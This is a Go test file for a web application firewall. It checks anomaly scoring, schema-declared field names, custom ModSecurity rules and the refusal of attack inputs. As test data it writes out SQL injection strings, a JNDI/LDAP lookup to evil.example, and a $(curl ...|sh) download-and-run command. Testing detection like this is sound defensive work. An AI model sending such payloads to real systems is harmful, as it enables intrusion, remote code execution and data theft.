package waf

import (
	"net/url"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/crenel-project/crenel/config"
	"github.com/crenel-project/crenel/internal/exchange"
	"github.com/crenel-project/crenel/internal/spec"
)

// Each value is judged by itself, weak rules together refuse nothing, and beside
// another they count.
func TestTunedWeighsEachValue(t *testing.T) {
	g := at(t, 2)
	for name, c := range map[string]struct {
		x     *exchange.Exchange
		score int
	}{
		"weak alone":          {request(t, 0, "", `{"a":"ring the bell -- twice, then wait"}`), 3},
		"weak in many values": {request(t, 0, "", `{"a":"ring the bell -- twice","b":"a < b -- c","c":"Fish & Chips; large -- or small"}`), 4},
		"deaf in a leaf":      {request(t, 0, "", `{"site":"https://shop.example.net/x?y=1","code":"100%25"}`), 0},
		"strong":              {request(t, 0, "", `{"a":"x' UNION SELECT password FROM users--"}`), -1},
		"in a header":         {request(t, 1, "", "", "X-Note", "${jndi:ldap://evil.example/a}"), -1},
	} {
		v := g.rule(t.Context(), c.x)
		score, _ := v.Detail["score"].(int)
		if c.score < 0 {
			if v.Code != "waf.attack" {
				t.Errorf("%s: %+v", name, v)
			}
		} else if v.Action != exchange.Allow || score != c.score {
			t.Errorf("%s: score %d, want %d: %+v", name, score, c.score, v)
		}
	}
}

// Names that the contract lists are no text of the caller's; others are.
func TestNamesOfTheContract(t *testing.T) {
	listed := compile(t, `{"type":"object","properties":{"credentials":{"type":"object","properties":{"note":{"type":"string"}}}}}`)
	other := compile(t, `{"type":"object","additionalProperties":{"type":"object"}}`)
	g := at(t, 1)
	ask := func(m *spec.MediaType) exchange.Verdict {
		x := request(t, 0, "", `{"credentials":{"note":"mine"}}`)
		x.Request.Body.Declared = m
		return g.rule(t.Context(), x)
	}
	if v := ask(&spec.MediaType{Type: "application/json", Schema: listed}); v.Action != exchange.Allow || v.Detail != nil {
		t.Errorf("a listed name: %+v", v)
	}
	if v := ask(&spec.MediaType{Type: "application/json", Schema: other}); v.Code != "waf.attack" {
		t.Errorf("a name of the caller's: %+v", v) // 930120: json.credentials
	}
}

// A custom rule that adds to the score makes the engine's own score count.
func TestTunedKeepsCustomScores(t *testing.T) {
	file := filepath.Join(t.TempDir(), "own.conf")
	rules := `SecRule ARGS:json.a "@contains wombat" "id:100,phase:2,pass,nolog,severity:NOTICE,msg:'own',setvar:tx.inbound_anomaly_score_pl1=+7"` + "\n" +
		`SecRule ARGS:json.a "@contains numbat" "id:101,phase:2,deny,status:403,msg:'own, too'"` + "\n"
	if err := os.WriteFile(file, []byte(rules), 0o600); err != nil {
		t.Fatal(err)
	}
	g, err := New(Options{API: testAPI(), Config: config.WAF{Rules: []string{file}, Budget: time.Minute}})
	if err != nil {
		t.Fatal(err)
	}
	defer closed(t, g)
	for text, score := range map[string]int{"a wombat": 7, "a numbat": 0} {
		v := g.rule(t.Context(), request(t, 0, "", `{"a":"`+text+`"}`))
		if got, _ := v.Detail["score"].(int); v.Code != "waf.attack" || got != score {
			t.Errorf("%s: %+v", text, v)
		}
	}
	if v := g.rule(t.Context(), request(t, 0, "", `{"b":"a wombat"}`)); v.Action != exchange.Allow {
		t.Errorf("elsewhere: %+v", v)
	}
}

// What a body holds does not weigh as a parameter of the same name would.
func TestTunedSameNameInQueryAndBody(t *testing.T) {
	g := at(t, 1)
	for _, query := range []string{"", "json.text=$(id)", "json.text=x"} {
		if v := g.rule(t.Context(), request(t, 0, query, `{"text":"$(id)"}`)); v.Code != "waf.attack" {
			t.Errorf("%q: %+v", query, v)
		}
	}
}

// What a shell or a browser would run is refused in a parameter as well.
func TestTunedArguments(t *testing.T) {
	g := at(t, 1)
	for query, code := range map[string]string{
		"q=" + url.QueryEscape("$(curl http://evil.example/x|sh)"):              "waf.attack",
		"q=" + url.QueryEscape("javascript:open(name)"):                         "waf.attack",
		"q=" + url.QueryEscape(`1' or JSON_EXTRACT('{"id":14}','$.id')=14 -- `): "waf.attack",
		"q=" + url.QueryEscape("the price is $(amount) and more"):               "",
	} {
		if v := g.rule(t.Context(), request(t, 0, query, `{}`)); v.Code != code {
			t.Errorf("%q: %+v", query, v)
		}
	}
}
